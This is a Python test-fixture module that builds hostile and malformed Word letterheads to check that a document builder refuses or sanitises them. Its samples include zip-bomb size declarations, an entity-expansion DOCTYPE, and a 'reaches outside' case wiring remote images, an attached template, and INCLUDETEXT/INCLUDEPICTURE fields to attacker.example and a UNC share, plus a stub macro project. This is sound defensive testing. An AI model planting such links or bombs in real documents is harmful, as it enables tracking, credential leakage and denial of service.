"""Hostile and unusual letterheads (`--reference-docx`), generated from python-docx's own template: each
case is a function returning the bytes of a .docx, small even where the file it stands for is huge
(an archive that declares a gigabyte, a part of 300,000 elements), so the corpus stays small and fast.
`CASES` maps each name to (make, what the build must do): "refused" with a message fragment, or "built"."""
from __future__ import annotations

import io
import struct
import zipfile
from functools import cache

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


@cache
def base() -> bytes:
    """python-docx's template with a header and a footer paragraph, saved as a plain letterhead."""
    import docx

    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].text = "MINISTRY OF JUSTICE"
    section.footer.paragraphs[0].text = "Prison Service"
    document.add_paragraph("The body of a letterhead, which the directive replaces.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rewrite(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The package with parts replaced, added (bytes) or removed (None)."""
    content = {**parts(data), **changes}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in content.items():
            if value is not None:
                archive.writestr(name, value)
    return out.getvalue()


def declare(data: bytes, name: str, size: int) -> bytes:
    """The archive with the uncompressed size it declares for `name` changed (in the local header and
    the central directory), its content unchanged: a zip bomb's declaration without its gigabytes."""
    raw = bytearray(data)
    # (signature, offset of the name's length, offset of the name, offset of the uncompressed size)
    for signature, length_at, name_at, size_at in ((b"PK\x03\x04", 26, 30, 22), (b"PK\x01\x02", 28, 46, 24)):
        header = raw.find(signature)
        while header >= 0:
            length = struct.unpack_from("<H", raw, header + length_at)[0]
            if raw[header + name_at: header + name_at + length] == name.encode():
                struct.pack_into("<I", raw, header + size_at, size)
            header = raw.find(signature, header + 4)
    return bytes(raw)


def _replace(name: str, old: bytes, new: bytes, data: bytes | None = None) -> bytes:
    data = data or base()
    part = parts(data)[name]
    assert old in part, (name, old)
    return rewrite(data, {name: part.replace(old, new, 1)})


def _header_name() -> str:
    return next(name for name in parts(base()) if name.startswith("word/header"))


def _footer_name() -> str:
    return next(name for name in parts(base()) if name.startswith("word/footer"))


# -- styles as other programs write them
def libreoffice_style_names() -> bytes:
    """LibreOffice names the header and footer styles "Header" and "Footer"; the letterhead's own header and
    footer are empty, so the writer styles its own paragraphs."""
    data = _replace("word/styles.xml", b'<w:name w:val="footer"/>', b'<w:name w:val="Footer"/>')
    data = _replace("word/styles.xml", b'<w:name w:val="header"/>', b'<w:name w:val="Header"/>', data)
    return _empty_header_footer(data)


def style_found_by_id() -> bytes:
    """A footer style Word knows by its id only (a translated name)."""
    data = _replace("word/styles.xml", b'<w:name w:val="footer"/>', b'<w:name w:val="Pied de page"/>')
    return _empty_header_footer(data)


def style_without_name() -> bytes:
    """A style with no w:name (the schema allows it) and one with an empty name."""
    data = _replace("word/styles.xml", b"</w:styles>",
                    f'<w:style xmlns:w="{W}" w:type="paragraph" w:styleId="Nameless"/>'
                    '<w:style w:type="paragraph" w:styleId="Empty"><w:name/></w:style></w:styles>'.encode()
                    .replace(f' xmlns:w="{W}"'.encode(), b""))
    return data


def _empty_header_footer(data: bytes) -> bytes:
    for name in (_header_name(), _footer_name()):
        part = parts(data)[name]
        start, end = part.index(b"<w:p>") if b"<w:p>" in part else part.index(b"<w:p "), part.rindex(b"</w:p>") + 6
        data = rewrite(data, {name: part[:start] + b"<w:p/>" + part[end:]})
    return data


# -- sizes
def declares_a_gigabyte_image() -> bytes:
    """A small file whose media part declares 1 GiB uncompressed."""
    data = rewrite(base(), {"word/media/image1.png": b"\x89PNG" + bytes(1000)})
    return declare(data, "word/media/image1.png", 1 << 30)


def lies_about_its_size() -> bytes:
    """A part that inflates to 40 MB while the archive declares 1 KB."""
    data = rewrite(base(), {"word/styles.xml": parts(base())["word/styles.xml"] + b" " * 40_000_000})
    return declare(data, "word/styles.xml", 1024)


def styles_of_300000_elements() -> bytes:
    """A styles part of a few hundred kilobytes compressed and 300,000 elements."""
    return _replace("word/styles.xml", b"</w:styles>", b"<w:x/>" * 300_000 + b"</w:styles>")


def declares_a_gigabyte_styles_part() -> bytes:
    return declare(base(), "word/styles.xml", 1 << 30)


# -- malformed parts
def entity_in_the_header() -> bytes:
    name = _header_name()
    part = parts(base())[name]
    body = part.split(b"?>", 1)[1]
    doctype = b'<!DOCTYPE w:hdr [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
    return rewrite(base(), {name: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype
                            + body.replace(b"MINISTRY OF JUSTICE", b"&lol2;")})


def undefined_entity() -> bytes:
    return _replace(_header_name(), b"MINISTRY OF JUSTICE", b"MINISTRY &nbsp; OF JUSTICE")


def not_well_formed() -> bytes:
    return _replace("word/styles.xml", b"</w:styles>", b"<w:style></w:styles>")


def no_section_properties() -> bytes:
    document = parts(base())["word/document.xml"]
    start = document.index(b"<w:sectPr")
    end = document.index(b"</w:sectPr>") + len(b"</w:sectPr>")
    return rewrite(base(), {"word/document.xml": document[:start] + document[end:]})


def header_reference_to_nothing() -> bytes:
    return _replace("word/document.xml", b"<w:headerReference", b'<w:headerReference r:id="rId999" w:type="first"/>'
                    b"<w:headerReference")


def non_numeric_list_ids() -> bytes:
    return _replace("word/numbering.xml", b'w:numId="1"', b'w:numId="one"')


def non_numeric_page_size() -> bytes:
    return _replace("word/document.xml", b'w:w="12240"', b'w:w="wide"')


def nested_too_deep() -> bytes:
    return _replace(_header_name(), b"<w:t>MINISTRY OF JUSTICE</w:t>",
                    b"<w:t>MINISTRY OF JUSTICE</w:t>" + b"<w:customXml>" * 300 + b"</w:customXml>" * 300)


def with_footnotes() -> bytes:
    """A letterhead with its own footnotes part (Word and LibreOffice write one): the directive's replace it."""
    notes = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:footnotes xmlns:w="{W}">'
             '<w:footnote w:type="separator" w:id="0"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
             '<w:footnote w:type="continuationSeparator" w:id="1"><w:p><w:r><w:continuationSeparator/></w:r></w:p>'
             '</w:footnote><w:footnote w:id="2"><w:p><w:r><w:t>An old note</w:t></w:r></w:p></w:footnote>'
             '</w:footnotes>').encode()
    data = _relate(base(), "word/_rels/document.xml.rels", "rIdNotes",
                   "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes", "footnotes.xml")
    data = _override(data, "/word/footnotes.xml",
                     "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml")
    return rewrite(data, {"word/footnotes.xml": notes})


# -- what reaches outside or runs
def _relate(data: bytes, rels: str, rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = b' TargetMode="External"' if external else b""
    relation = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'.encode() + mode + b"/>"
    current = parts(data).get(rels) or (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                                        f'<Relationships xmlns="{PKG}"></Relationships>').encode()
    return rewrite(data, {rels: current.replace(b"</Relationships>", relation + b"</Relationships>")})


def _override(data: bytes, part: str, kind: str) -> bytes:
    types = parts(data)["[Content_Types].xml"]
    return rewrite(data, {"[Content_Types].xml": types.replace(
        b"</Types>", f'<Override PartName="{part}" ContentType="{kind}"/></Types>'.encode())})


def reaches_outside() -> bytes:
    """A remote image in the header, an attached remote template, INCLUDETEXT and INCLUDEPICTURE fields,
    a field Word is asked to update, a request to update every field on open, and macros."""
    header = _header_name()
    rels = header.replace("word/", "word/_rels/") + ".rels"
    data = _relate(base(), rels, "rIdRemote", f"{R}/image", "http://attacker.example/logo.png", external=True)
    picture = (b'<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
               b'wordprocessingDrawing"><wp:extent cx="100" cy="100"/><wp:docPr id="9" name="logo"/>'
               b'<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
               b'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://'
               b'schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rIdRemote" '
               b'xmlns:r="' + R.encode() + b'"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
               b'</wp:inline></w:drawing></w:r>')
    fields = (b'<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> '
              b'INCLUDETEXT "http://attacker.example/x.docx" </w:instrText></w:r><w:r><w:fldChar '
              b'w:fldCharType="separate"/></w:r><w:r><w:t>included</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
              b'</w:r><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\\\\\attacker\\\\share\\\\p.png&quot; "><w:r><w:t>'
              b'picture</w:t></w:r></w:fldSimple>')
    data = _replace(header, b"<w:t>MINISTRY OF JUSTICE</w:t></w:r>",
                    b"<w:t>MINISTRY OF JUSTICE</w:t></w:r>" + picture + fields, data)
    data = _relate(data, "word/_rels/settings.xml.rels", "rIdTemplate", f"{R}/attachedTemplate",
                   "http://attacker.example/template.dotm", external=True)
    settings = parts(data)["word/settings.xml"]
    start = settings.index(b">", settings.index(b"<w:settings")) + 1
    template = b'<w:attachedTemplate r:id="rIdTemplate" xmlns:r="' + R.encode() + b'"/>'
    rest = settings[start:].replace(b"</w:settings>", b'<w:updateFields w:val="true"/></w:settings>')
    data = rewrite(data, {"word/settings.xml": settings[:start] + template + rest})
    data = _relate(data, "word/_rels/document.xml.rels", "rIdVba",
                   "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    data = _override(data, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    return rewrite(data, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 a macro project"})


def macro_enabled_template() -> bytes:
    """A .dotm: a template with macros, which Word calls its letterhead; read as a plain document."""
    types = parts(base())["[Content_Types].xml"]
    return rewrite(base(), {"[Content_Types].xml": types.replace(
        b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")})


# -- not a Word document at all
def not_a_zip() -> bytes:
    return b"%PDF-1.7 this is not a Word file\n"


def a_spreadsheet() -> bytes:
    types = parts(base())["[Content_Types].xml"]
    return rewrite(base(), {"[Content_Types].xml": types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")})


def damaged() -> bytes:
    data = bytearray(base())
    position = data.find(b"word/styles.xml") + 40
    data[position: position + 200] = bytes(200)
    return bytes(data)


REFUSED, BUILT = "refused", "built"
CASES = {
    "libreoffice-style-names": (libreoffice_style_names, BUILT, ""),
    "style-found-by-id": (style_found_by_id, BUILT, ""),
    "style-without-name": (style_without_name, BUILT, ""),
    "with-footnotes": (with_footnotes, BUILT, ""),
    "macro-enabled-template": (macro_enabled_template, BUILT, ""),
    "reaches-outside": (reaches_outside, BUILT, "the output leaves out"),
    "declares-a-gigabyte-image": (declares_a_gigabyte_image, REFUSED, "expected a part of at most 32 MB"),
    "declares-a-gigabyte-styles-part": (declares_a_gigabyte_styles_part, REFUSED, "expected a part of at most 32 MB"),
    "lies-about-its-size": (lies_about_its_size, REFUSED, "damaged archive"),
    "styles-of-300000-elements": (styles_of_300000_elements, REFUSED, "expected at most 120000 XML elements"),
    "entity-in-the-header": (entity_in_the_header, REFUSED, "found a document type declaration"),
    "undefined-entity": (undefined_entity, REFUSED, "expected well-formed XML"),
    "not-well-formed": (not_well_formed, REFUSED, "word/styles.xml, line"),
    "no-section-properties": (no_section_properties, BUILT, ""),
    "header-reference-to-nothing": (header_reference_to_nothing, REFUSED, "expected the header the section refers to"),
    "non-numeric-list-ids": (non_numeric_list_ids, REFUSED, "expected a whole number in w:numId of w:num, found 'one'"),
    "non-numeric-page-size": (non_numeric_page_size, REFUSED, "expected a measure in w:w of w:pgSz, found 'wide'"),
    "nested-too-deep": (nested_too_deep, REFUSED, "expected well-formed XML"),
    "not-a-zip": (not_a_zip, REFUSED, "not a zip archive"),
    "a-spreadsheet": (a_spreadsheet, REFUSED, "expected a Word document, found a spreadsheet"),
    "damaged": (damaged, REFUSED, "expected a Word (.docx) file"),
}
